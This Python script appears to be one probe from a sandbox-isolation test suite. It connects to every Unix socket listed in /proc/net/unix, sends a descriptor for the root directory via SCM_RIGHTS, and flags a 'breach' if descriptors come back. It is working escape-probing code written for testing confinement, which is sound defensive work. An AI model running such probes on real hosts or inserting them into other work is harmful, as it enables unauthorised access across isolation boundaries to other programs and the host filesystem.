"""Ask every unix socket of the cell for descriptors, and send ours."""

# aims: host
# control: none (outside these sockets are other programs')
import array
import os
import socket

from attack import attempt, breach, tried

tried()
for line in open("/proc/net/unix").read().splitlines()[1:]:
    path = line.split(" ", 7)[-1].split()[-1]
    if not path.startswith(("@", "/")):
        continue
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        with socket.socket(socket.AF_UNIX, kind) as one:
            one.settimeout(0.3)
            if attempt(lambda one=one, path=path: one.connect(path.replace("@", "\0", 1)) or True) is None:
                continue
            rights = array.array("i", [os.open("/", os.O_RDONLY)])
            attempt(
                lambda one=one, rights=rights: one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
            )
            got = attempt(lambda one=one: one.recvmsg(4096, 4096))
            if got and got[1]:
                breach(f"descriptors from {path}")
